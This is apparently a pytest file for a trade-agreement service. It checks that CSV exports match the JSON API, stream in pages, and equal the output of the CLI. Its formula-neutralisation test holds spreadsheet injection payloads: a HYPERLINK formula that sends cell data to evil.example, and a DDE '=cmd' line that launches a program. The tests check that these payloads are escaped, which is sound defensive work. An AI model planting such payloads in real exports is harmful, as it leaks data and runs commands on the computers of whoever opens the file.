"""CSV exports of the agreements list and of a history: the same rows as the JSON API, cells a
spreadsheet cannot run, streamed a page at a time; the CLI writes the same bytes. On SQLite and
PostgreSQL."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from pathlib import Path

from service.exports import csv_export
from tests.helpers import create_agreement, fire_all

INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _parse(body: bytes) -> list[dict[str, str]]:
    text = body.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:])))


async def _json_list(client, **params) -> list[dict]:
    found, cursor = [], None
    while True:
        page = (
            await client.get(
                "/v1/agreements", params={**params, "limit": 200, **({"cursor": cursor} if cursor else {})}
            )
        ).json()
        found += page["data"]
        if not (cursor := page["next_cursor"]):
            return found


async def test_agreements_csv_matches_the_json_list(client):
    for title, parties in (("US-Japan", ["US", "JP"]), ("USMCA", ["US", "MX", "CA"]), ("KORUS", ["US", "KR"])):
        await create_agreement(client, title=title, parties=parties, sectors=["autos", "agriculture"])
    signed = (await create_agreement(client, title="Signed US-Japan", coverage="goods"))["id"]
    await fire_all(
        client, signed,
        ("start_domestic_procedures", "2018-10-01"), ("notify_congress", "2018-10-16"),
        ("open_negotiations", "2018-11-01"), ("reach_preliminary", "2019-08-25"), ("sign", "2019-10-07"),
    )  # fmt: skip
    for params in ({}, {"party": "JP"}, {"q": "korus"}, {"state": "finalized"}, {"as_of": "2019-09-01"}):
        response = await client.get("/v1/agreements.csv", params=params)
        assert response.status_code == 200, response.text
        assert response.headers["content-type"] == "text/csv; charset=utf-8"
        assert response.headers["content-disposition"] == 'attachment; filename="agreements.csv"'
        rows = _parse(response.content)
        listed = await _json_list(client, **params)
        assert [r["id"] for r in rows] == [a["id"] for a in listed], params
        for row, agreement in zip(rows, listed, strict=True):
            assert list(row) == list(csv_export.AGREEMENT_COLUMNS)
            assert row["title"] == agreement["title"] and row["state"] == agreement["state"]
            assert row["parties"].split(";") == agreement["parties"]
            assert row["created_at"] == agreement["created_at"] and row["updated_at"] == agreement["updated_at"]
            assert row["signed_on"] == (agreement["signed_on"] or "")
            assert row["coverage"] == (agreement["coverage"] or "")
    rows = _parse((await client.get("/v1/agreements.csv", params={"state": "finalized"})).content)
    assert [(r["id"], r["signed_on"]) for r in rows] == [(signed, "2019-10-07")]


async def test_the_csv_routes_are_not_agreement_ids(client):
    assert (await client.get("/v1/agreements.csv")).headers["content-type"].startswith("text/csv")
    assert (await client.get("/v1/agreements/agreements.csv")).status_code == 404
    assert (await client.get("/v1/agreements/agr_nothing/transitions.csv")).status_code == 404


async def test_formulas_are_neutralised(client):
    aid = (await create_agreement(client, title=INJECTION))["id"]
    for title in ("+1+2", "-2+3", "@SUM(A1)", "\tTab", "plain"):
        await create_agreement(client, title=title)
    await fire_all(client, aid, ("start_domestic_procedures", "2018-10-01", {"note": "=cmd|' /C calc'!A0"}))
    titles = [r["title"] for r in _parse((await client.get("/v1/agreements.csv")).content)]
    # Titles are stripped of surrounding blanks by the API: "\tTab" is stored as "Tab".
    assert titles == ["'" + INJECTION, "'+1+2", "'-2+3", "'@SUM(A1)", "Tab", "plain"]
    history = _parse((await client.get(f"/v1/agreements/{aid}/transitions.csv")).content)
    assert history[1]["note"] == "'=cmd|' /C calc'!A0"
    assert csv_export.safe_cell("\r=1") == "'\r=1" and csv_export.safe_cell("\t=1") == "'\t=1"
    assert csv_export.safe_cell(None) == "" and csv_export.safe_cell(-3) == "'-3"


async def test_transitions_csv_has_each_entry_with_its_documents(client):
    aid = (await create_agreement(client))["id"]
    await fire_all(client, aid, ("start_domestic_procedures", "2018-10-01"), ("notify_congress", "2018-10-16"))
    for title, url in (("Notice", "https://example.org/notice"), ("Letter", "https://example.org/letter")):
        response = await client.post(
            f"/v1/agreements/{aid}/documents",
            json={"type": "other", "title": title, "url": url, "published_on": "2018-10-16", "sequence": 3},
        )
        assert response.status_code == 201, response.text
    response = await client.get(f"/v1/agreements/{aid}/transitions.csv")
    assert response.status_code == 200
    assert response.headers["content-disposition"] == f'attachment; filename="{aid}-transitions.csv"'
    rows = _parse(response.content)
    history = (await client.get(f"/v1/agreements/{aid}/transitions")).json()["data"]
    assert [int(r["sequence"]) for r in rows] == [e["sequence"] for e in history] == [1, 2, 3]
    assert [r["occurred_at"] for r in rows] == [e["occurred_at"] for e in history]
    assert [r["documents"] for r in rows] == ["0", "0", "2"]
    assert sorted(rows[2]["document_titles"].split(" | ")) == ["Letter", "Notice"]
    assert len(rows[2]["document_urls"].split(" | ")) == 2


async def test_exports_stream_in_pages(client, db, monkeypatch):
    ids = [(await create_agreement(client, title=f"agreement {n:02}"))["id"] for n in range(23)]
    chunks = [c async for c in csv_export.agreements_csv(db, batch=5)]
    assert len(chunks) == 1 + 5  # the header, then 23 rows in pages of 5
    assert [r["id"] for r in _parse("".join(chunks).encode())] == ids
    monkeypatch.setattr(csv_export, "BATCH", 4)
    response = await client.get("/v1/agreements.csv")
    assert [r["id"] for r in _parse(response.content)] == ids

    await fire_all(client, ids[0], *[("start_domestic_procedures", "2018-10-01")])
    history = [c async for c in csv_export.transitions_csv(db, ids[0], batch=1)]
    assert len(history) == 1 + 2


def _accord(database_url: str, *args: str) -> subprocess.CompletedProcess:
    accord = str(Path(sys.executable).with_name("accord"))
    env = {**os.environ, "ACCORD_DATABASE_URL": database_url}
    return subprocess.run([accord, *args], env=env, capture_output=True, timeout=60)


async def test_the_cli_writes_the_same_bytes(client, database_url, tmp_path):
    aid = (await create_agreement(client, title=INJECTION, parties=["US", "JP"]))["id"]
    await create_agreement(client, title="USMCA", parties=["US", "MX", "CA"])
    await fire_all(client, aid, ("start_domestic_procedures", "2018-10-01"))

    out = tmp_path / "agreements.csv"
    done = _accord(database_url, "export", "agreements", "--party", "JP", "-o", str(out))
    assert done.returncode == 0, done.stderr
    assert out.read_bytes() == (await client.get("/v1/agreements.csv", params={"party": "JP"})).content
    everything = _accord(database_url, "export", "agreements")
    assert everything.stdout == (await client.get("/v1/agreements.csv")).content

    done = _accord(database_url, "export", "transitions", aid)
    assert done.returncode == 0, done.stderr
    assert done.stdout == (await client.get(f"/v1/agreements/{aid}/transitions.csv")).content

    missing = _accord(database_url, "export", "transitions", "agr_nothing")
    assert missing.returncode == 1
    assert missing.stderr.decode().strip() == "accord export transitions: No agreement 'agr_nothing'"
